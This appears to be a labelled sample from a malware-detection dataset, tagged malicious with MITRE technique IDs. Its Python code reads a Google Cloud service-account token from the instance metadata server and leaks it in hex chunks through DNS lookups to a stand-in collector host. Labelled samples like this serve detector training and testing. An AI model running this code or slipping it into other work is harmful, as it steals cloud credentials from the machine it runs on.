# label: malicious family=metadata techniques=T1048.003,T1071.004,T1528,T1552.005 lines=3-4,8
import socket, requests, binascii
t = requests.get("http://metadata/computeMetadata/v1/instance/service-accounts/default/token",
                 headers={"Metadata-Flavor": "Google"}).json()["access_token"]
hx = binascii.hexlify(t.encode()).decode()
for i in range(0, len(hx), 60):
    try:
        socket.gethostbyname(hx[i:i+60] + ".%d.t.oast-collector.example" % i)
    except socket.gaierror:
        pass
